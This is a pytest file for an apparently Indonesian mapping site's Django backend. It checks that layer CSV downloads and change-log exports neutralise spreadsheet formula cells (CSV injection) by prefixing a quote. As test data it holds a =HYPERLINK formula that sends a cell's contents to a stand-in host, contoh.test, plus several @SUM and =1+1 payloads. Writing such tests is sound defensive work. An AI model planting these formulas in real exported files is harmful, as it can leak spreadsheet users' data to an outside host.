"""CSV cells a spreadsheet would evaluate (core.spreadsheet.safe_cell, OWASP
"CSV Injection"), in every CSV the site writes: the layer download and the
change log (the compliance CSV: tests/tataruang/test_csv_cells.py)."""

import csv
import io

import pytest

from core.spreadsheet import safe_cell
from layers import exports
from tests.factories.layers import published_layer
from tests.layers import files

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://contoh.test/?d="&A1,"klik")'


@pytest.mark.parametrize(
    "value, cell",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+62 812 3456", "'+62 812 3456"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # Plain numbers are data: a negative number stays a number.
        ("-12.5", "-12.5"),
        ("-3", "-3"),
        ("+7", "+7"),
        ("-1.5e3", "-1.5e3"),
        # Not at the start, or not text: unchanged.
        ("Taman =Kota", "Taman =Kota"),
        ("'=sudah", "'=sudah"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


@pytest.fixture
def taman(users, opd, wilayah):
    square = [files.square(*files.BALARAJA[:2], half=0.0005)]
    hostile = {"type": "Polygon", "coordinates": square}
    features = [
        {
            "type": "Feature",
            "geometry": hostile,
            "properties": {"nama": HYPERLINK, "catatan": "@SUM(A1:A9)", "kode": "-12.5", "luas": -5},
        }
    ]
    return published_layer(users["dinkes"], opd["dinkes"], "Taman", features, users["dtrb"], "taman.geojson")


def rows_of(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def test_layer_csv_download_neutralises_formula_cells(taman, client_for):
    response = client_for().get("/api/layers/taman/download/csv/")
    assert response.status_code == 200
    [row] = rows_of(response)
    assert row["nama"] == "'" + HYPERLINK
    assert row["catatan"] == "'@SUM(A1:A9)"
    assert row["kode"] == "-12.5"  # a plain negative number, kept
    assert row["luas"] == "-5"  # an integer column, written by GDAL as a number
    assert row["WKT"].startswith("MULTIPOLYGON")
    # The other formats carry the text as it is.
    geojson = client_for().get("/api/layers/taman/download/geojson/")
    assert HYPERLINK.replace('"', '\\"') in b"".join(geojson.streaming_content).decode()


def test_export_cache_key_carries_the_writer_revision(taman, monkeypatch):
    version = taman.published_version
    first, _type = exports.cached_export(version, "csv")
    assert exports.cached_export(version, "csv")[0] == first  # served from the cache
    monkeypatch.setattr(exports, "EXPORT_WRITER_REVISION", exports.EXPORT_WRITER_REVISION + 1)
    second, _type = exports.cached_export(version, "csv")
    assert second != first and second.exists() and not first.exists()


def test_change_log_csv_neutralises_formula_cells(taman, users, client_for):
    operator = users["dinkes"]
    operator.username = "@SUM(1+1)"  # saved directly: the signup form would refuse it
    operator.save(update_fields=["username"])
    feature = taman.published_version.features.get()
    response = client_for("dinkes").patch(
        f"/api/layers/taman/features/{feature.pk}/", {"properties": {"kode": "=1+1"}, "version": 1}, format="json"
    )
    assert response.status_code == 200, response.json()
    response = client_for("dinkes").get("/api/layers/taman/changes/", {"export": "csv"})
    assert response.status_code == 200
    update = next(row for row in rows_of(response) if row["aksi"] == "update")
    assert update["pengguna"] == "'@SUM(1+1)"
    assert update["versi_sebelum"] == "1" and update["versi_sesudah"] == "2"
    assert "'kode': '=1+1'" in update["atribut_sesudah"]  # inside a dict's text, not at a cell's start
